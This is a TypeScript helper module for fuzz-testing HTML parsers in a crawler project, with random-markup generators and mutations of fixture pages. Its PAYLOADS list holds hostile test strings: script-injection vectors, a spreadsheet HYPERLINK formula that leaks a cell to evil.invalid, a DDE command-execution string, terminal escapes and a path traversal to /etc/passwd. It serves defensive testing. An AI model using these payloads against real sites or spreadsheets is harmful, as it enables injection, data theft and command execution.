/**
 * Shared pieces of the fuzz suites: how many cases to run, the hang guard, hostile strings, random
 * HTML, and mutations of real pages. CI runs a few cases per property; `npx tsx bench/fuzz.ts
 * --runs 100000` runs the same properties for as long as one likes (ZMOT_FUZZ_RUNS, ZMOT_FUZZ_SEED).
 */
import { readFileSync, readdirSync, statSync } from 'node:fs';
import path from 'node:path';
import fc from 'fast-check';
import { REPO_ROOT, SHARED_FIXTURES } from '../helpers/paths.ts';

/** Cases per property: the CI default of each suite, or ZMOT_FUZZ_RUNS for a long run. */
export function runs(ciDefault: number): number {
  const fromEnv = Number(process.env.ZMOT_FUZZ_RUNS);
  return Number.isInteger(fromEnv) && fromEnv > 0 ? fromEnv : ciDefault;
}

/** fast-check parameters: the case count, and ZMOT_FUZZ_SEED to replay a failure printed by a run. */
export function params<T>(ciDefault: number): fc.Parameters<T> {
  const seed = Number(process.env.ZMOT_FUZZ_SEED);
  return { numRuns: runs(ciDefault), ...(Number.isInteger(seed) ? { seed } : {}) };
}

/** A whole fuzz test's time limit: generous when a long run was asked for. */
export function suiteTimeout(ciMs: number): number {
  return process.env.ZMOT_FUZZ_RUNS ? 24 * 3600 * 1000 : ciMs;
}

/**
 * The hang guard. Parsers are synchronous, so a case cannot be interrupted; each is timed and one
 * that takes longer than this (a hundred times what a real input of that size needs) fails with its
 * input. A true infinite loop is caught by the test's own timeout.
 */
export const CASE_LIMIT_MS = 10_000;

export function bounded<T>(what: string, input: unknown, run: () => T, limitMs = CASE_LIMIT_MS): T {
  const started = performance.now();
  const out = run();
  const took = performance.now() - started;
  if (took > limitMs) throw new Error(`${what} took ${Math.round(took)} ms on one input (guard ${limitMs} ms): ${preview(input)}`);
  return out;
}

/** Lets jsdom free a closed window: it does so only once the event loop turns, never inside a sync loop. */
export function settle(): Promise<void> {
  return new Promise((resolve) => setImmediate(resolve));
}

export function preview(input: unknown): string {
  const s = typeof input === 'string' ? input : JSON.stringify(input);
  return s.length > 300 ? `${JSON.stringify(s.slice(0, 300))}… (${s.length} chars)` : JSON.stringify(s);
}

/** Strings that try to break out of wherever they are shown or parsed. */
export const PAYLOADS = [
  '<script>window.__pwned=1</script>',
  '<img src=x onerror=alert(1)>',
  '" onmouseover="alert(1)" x="',
  "' onclick='alert(1)' '",
  'javascript:alert(1)',
  ' JaVaScRiPt:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '</td></tr></table><div id=pwned>',
  '</title></textarea></style></script></noscript></template>',
  '-->',
  '<!--',
  ']]>',
  '<![CDATA[',
  '=HYPERLINK("http://evil.invalid/?x="&A1,"x")',
  "+cmd|' /C calc'!A0",
  '@SUM(1)',
  '-2+3',
  '\t=1+1',
  '\r=1+1',
  '[x](javascript:alert(1))',
  '![img](http://evil.invalid/x.png)',
  '| pipe | cell |',
  '`code`',
  '\u001b]8;;http://evil.invalid\u0007link\u001b]8;;\u0007',
  '\u001b[2J\u001b[H',
  '\u009b31m',
  '\u202eexe.pdf',
  '\u2066\u2069',
  '\u0000',
  '\uFEFF',
  '\ud800',
  '\u2028\u2029',
  '&lt;&amp;&#0;&#x1b;&#xD800;&#1114112;&nbsp',
  '{{origin}}',
  '%00%2e%2e%2f%E0%A4%A',
  '../../etc/passwd',
  'A'.repeat(5_000),
  '<a href="x">'.repeat(50),
  '<div>'.repeat(700),
];

export const payload = fc.constantFrom(...PAYLOADS);

/** Any text: ASCII, any code point (lone surrogates too), or a payload. */
export const anyText = fc.oneof(
  { weight: 3, arbitrary: fc.string({ maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 2, arbitrary: payload },
);

const TAGS = [
  'html', 'head', 'body', 'title', 'meta', 'link', 'base', 'script', 'style', 'noscript', 'template', 'div', 'p', 'span', 'a', 'b',
  'i', 'font', 'nobr', 'h1', 'h2', 'h3', 'ul', 'ol', 'li', 'dl', 'dt', 'dd', 'table', 'thead', 'tbody', 'tr', 'td', 'th',
  'caption', 'img', 'svg', 'math', 'textarea', 'select', 'option', 'form', 'iframe', 'main', 'article', 'nav', 'header',
  'footer', 'details', 'summary', 'section', 'xmp', 'plaintext', 'x-widget', 'br',
];
const ATTRS = [
  'href', 'src', 'rel', 'lang', 'hreflang', 'name', 'content', 'property', 'itemscope', 'itemprop', 'itemtype', 'typeof',
  'vocab', 'id', 'class', 'style', 'hidden', 'aria-hidden', 'aria-label', 'aria-labelledby', 'alt', 'type', 'onclick', 'role',
  'charset', 'http-equiv', 'title', 'datetime',
];
const ATTR_VALUES = [
  'canonical', 'alternate', 'nofollow', 'description', 'robots', 'noindex, nofollow', 'application/ld+json', 'en', 'fr',
  'x-default', 'https://schema.org/Product', 'Offer', 'price', '/', '#', 'http://127.0.0.1/x', '//evil.invalid/', 'display:none',
  'true', 'main', '{"@type":"FAQPage","mainEntity":[{"@type":"Question","name":"q","acceptedAnswer":{"text":"a"}}]}',
];

const attrValue = fc.oneof(fc.constantFrom(...ATTR_VALUES), anyText);
const attribute = fc
  .tuple(fc.constantFrom(...ATTRS), attrValue, fc.constantFrom('"', "'", '', 'none'))
  .map(([name, value, quote]) => (quote === 'none' ? name : `${name}=${quote}${quote ? value.replaceAll(quote, '') : value.replace(/[\s>]/g, '')}${quote}`));

/** Random markup: nested elements with hostile text and attributes, unclosed tags, stray end tags, repeats. */
export const randomHtml: fc.Arbitrary<string> = fc.letrec<{ node: string; nodes: string }>((tie) => ({
  node: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    anyText,
    fc
      .tuple(fc.constantFrom(...TAGS), fc.array(attribute, { maxLength: 4 }), tie('nodes'), fc.constantFrom('close', 'open', 'self'))
      .map(([tag, attrs, inner, end]) => `<${tag}${attrs.map((a) => ` ${a}`).join('')}${end === 'self' ? '/' : ''}>${inner}${end === 'close' ? `</${tag}>` : ''}`),
    fc.constantFrom(...TAGS).map((t) => `</${t}>`),
    anyText.map((t) => `<!--${t}-->`),
    fc.tuple(fc.constantFrom('<p>x</p>', '<b>', '<div>', '<td>', '<li>', '<a href=/x>x</a>', '<table>', '<select>'), fc.integer({ min: 1, max: 600 })).map(([s, n]) => s.repeat(n)),
    fc.jsonValue({ maxDepth: 3 }).map((v) => `<script type="application/ld+json">${JSON.stringify(v)}</script>`),
  ),
  nodes: fc.array(tie('node'), { maxLength: 5 }).map((parts) => parts.join('')),
})).nodes;

/** Real pages to mutate: Lighthouse's SEO test pages, the demo site and the hostile site. */
export function realPages(): Array<{ name: string; html: string }> {
  const pages: Array<{ name: string; html: string }> = [];
  const add = (dir: string, prefix: string, maxBytes = 400_000) => {
    for (const entry of readdirSync(dir, { recursive: true }) as string[]) {
      const file = path.join(dir, entry);
      if (!/\.html?$/.test(entry) || !statSync(file).isFile() || statSync(file).size > maxBytes) continue;
      pages.push({ name: `${prefix}/${entry}`, html: readFileSync(file, 'utf8') });
    }
  };
  add(path.join(SHARED_FIXTURES, 'lighthouse-seo'), 'lighthouse-seo');
  add(path.join(REPO_ROOT, 'crawler/demo/site'), 'demo');
  add(path.join(REPO_ROOT, 'tests/fixtures/hostile-site/site'), 'hostile');
  return pages;
}

export type Mutation =
  | { kind: 'slice'; from: number; to: number }
  | { kind: 'duplicate'; at: number; length: number; times: number }
  | { kind: 'inject'; at: number; text: string }
  | { kind: 'drop-end-tags' }
  | { kind: 'swap-case'; at: number; length: number };

export const mutation: fc.Arbitrary<Mutation> = fc.oneof(
  fc.record({ kind: fc.constant('slice' as const), from: fc.nat(), to: fc.nat() }),
  fc.record({ kind: fc.constant('duplicate' as const), at: fc.nat(), length: fc.integer({ min: 1, max: 400 }), times: fc.integer({ min: 1, max: 60 }) }),
  fc.record({ kind: fc.constant('inject' as const), at: fc.nat(), text: fc.oneof(payload, randomHtml) }),
  fc.constant({ kind: 'drop-end-tags' as const }),
  fc.record({ kind: fc.constant('swap-case' as const), at: fc.nat(), length: fc.integer({ min: 1, max: 2_000 }) }),
);

/** Applies mutations to a text; positions wrap around its length. */
export function mutate(text: string, mutations: Mutation[]): string {
  let s = text;
  for (const m of mutations) {
    const n = Math.max(1, s.length);
    switch (m.kind) {
      case 'slice': {
        const [a, b] = [m.from % n, m.to % n].sort((x, y) => x - y);
        s = s.slice(a, b || undefined);
        break;
      }
      case 'duplicate': {
        const at = m.at % n;
        s = s.slice(0, at) + s.slice(at, at + m.length).repeat(m.times) + s.slice(at);
        break;
      }
      case 'inject': {
        const at = m.at % n;
        s = s.slice(0, at) + m.text + s.slice(at);
        break;
      }
      case 'drop-end-tags':
        s = s.replace(/<\/[a-z0-9]+\s*>/gi, '');
        break;
      case 'swap-case': {
        const at = m.at % n;
        const part = s.slice(at, at + m.length);
        s = s.slice(0, at) + part.replace(/[a-z]/gi, (c) => (c === c.toLowerCase() ? c.toUpperCase() : c.toLowerCase())) + s.slice(at + m.length);
        break;
      }
    }
  }
  return s;
}

/** A single line with no control characters: what a one-line error message must be. */
export function isOneLine(message: string): boolean {
  return message.length > 0 && !/[\r\n]/.test(message);
}
